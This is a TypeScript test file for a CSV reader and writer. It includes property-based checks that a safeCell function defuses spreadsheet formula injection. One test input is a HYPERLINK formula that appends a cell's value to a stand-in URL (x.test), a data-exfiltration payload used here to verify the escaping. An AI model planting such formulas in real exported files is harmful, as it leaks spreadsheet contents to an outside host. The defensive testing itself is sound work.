import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { csvRow, plainCell, readCsv, safeCell, UnclosedQuote } from './csv.ts'

const rowsOf = (text: string) => [...readCsv(text)]

describe('readCsv', () => {
  it.each<[string, string, string[][]]>([
    [
      'line ends of every kind',
      'a,b\r\nc,d\ne,f\rg,h',
      [
        ['a', 'b'],
        ['c', 'd'],
        ['e', 'f'],
        ['g', 'h'],
      ],
    ],
    ['quotes, commas and breaks in quoted cells', '"a ""b"", c","d\r\ne"\n', [['a "b", c', 'd\r\ne']]],
    [
      'empty cells',
      ',\n"",x,\n',
      [
        ['', ''],
        ['', 'x', ''],
      ],
    ],
    ['a comma at the end of the file', 'a,', [['a', '']]],
    ['no blank lines', '\n\na\n\r\n\n', [['a']]],
    ['a quote inside of an unquoted cell', 'a "b",c', [['a "b"', 'c']]],
    ['text after a closing quote', '"a"b,c', [['ab', 'c']]],
    ['nothing', '', []],
  ])('reads %s', (_, text, rows) => expect(rowsOf(text)).toEqual(rows))

  it('throws where a quote is not closed', () => {
    for (const text of ['"a', 'a,"b""', 'x\n"']) expect(() => rowsOf(text)).toThrow(UnclosedQuote)
  })

  it('reads what csvRow has written', () => {
    const cell = fc.string({ unit: fc.constantFrom('a', ',', ';', '\t', '"', '\r', '\n', ' ', "'", '=', 'ש', '🦊') })
    const rows = fc.array(fc.array(cell, { minLength: 2, maxLength: 4 }), { maxLength: 5 })
    fc.assert(
      fc.property(rows, (written) => {
        expect(rowsOf(written.map(csvRow).join(''))).toEqual(written)
      }),
    )
  })

  it('ends for any text', () => {
    const text = fc.string({ unit: fc.constantFrom('a', ',', '"', '\r', '\n') })
    fc.assert(
      fc.property(text, (any) => {
        try {
          rowsOf(any)
        } catch (error) {
          expect(error).toBeInstanceOf(UnclosedQuote)
        }
      }),
    )
  })
})

/** The cells of a row as a spreadsheet has them whose separator is another one: a quote counts at the start of a cell alone. */
const cellsBy = (separator: string, row: string): string[] => {
  const cells = row.split(separator === '\t' ? /[\t\r\n]/ : /[;\r\n]/)
  return cells.map((cell) => cell.replace(/^[ "]*/, ''))
}

describe('csvRow', () => {
  it.each([';', '\t'])('quotes cells with %j, and leaves no formula in a part of one', (separator) => {
    const text = `a fox${separator}=HYPERLINK("http://x.test/?"&A1${separator}"=1")`
    const row = csvRow(['n', text].map(safeCell))
    expect(row).toMatch(/^n,".*"\r\n$/)
    for (const cell of cellsBy(separator, row)) expect(cell).not.toMatch(/^[=+\-@]/)
  })
})

describe('safeCell', () => {
  it.each(['=1+1', '+1', '-1', '@anna', '\t', "'=1", ' =1', '"=1', '＝1'])('marks %j', (text) =>
    expect(safeCell(text)).toBe(`'${text}`),
  )
  it.each([
    ['a;=1', "a;'=1"],
    ['a;"=1"', 'a;\'"=1"'],
    ['a\n-b', "a\n'-b"],
    ['\t=1', "'\t'=1"],
  ])('marks each part of %j', (text, marked) => expect(safeCell(text)).toBe(marked))
  it.each(['fog', '', "'fog'", "don't", 'a = b', 'a; b'])('leaves %j', (text) => expect(safeCell(text)).toBe(text))

  it('is read again by plainCell, and leaves no formula at the start of a cell of any separator', () => {
    const text = fc.string({ unit: fc.constantFrom("'", '"', '=', '-', '@', 'a', ' ', ';', '\t', '\r', '\n', ',') })
    fc.assert(
      fc.property(text, text, (one, other) => {
        expect(plainCell(safeCell(one))).toBe(one)
        const row = csvRow([one, other].map(safeCell))
        expect([...readCsv(row)].flat().map(plainCell)).toEqual([one, other])
        for (const separator of [';', '\t'])
          for (const cell of cellsBy(separator, row)) expect(cell).not.toMatch(/^[=+\-@]/)
      }),
    )
  })
})
